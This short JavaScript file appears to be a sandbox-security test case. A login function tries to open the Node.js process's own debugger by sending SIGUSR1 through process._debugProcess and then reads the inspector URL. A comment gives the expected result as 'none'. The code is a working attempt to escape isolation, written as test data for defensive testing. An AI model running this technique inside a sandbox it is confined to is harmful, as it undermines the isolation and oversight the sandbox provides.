// attack: open its own debugger by SIGUSR1
// came_to: {"url":"none"}
function login(email, password, callback) {
  report(callback, {
    url: async () => {
      process.on('SIGUSR1', () => {});
      process.removeAllListeners('SIGUSR1');
      try {
        process._debugProcess(process.pid);
      } catch {}
      await new Promise((resolve) => setTimeout(resolve, 200));
      return process.getBuiltinModule('inspector').url() ?? 'none';
    },
  });
}
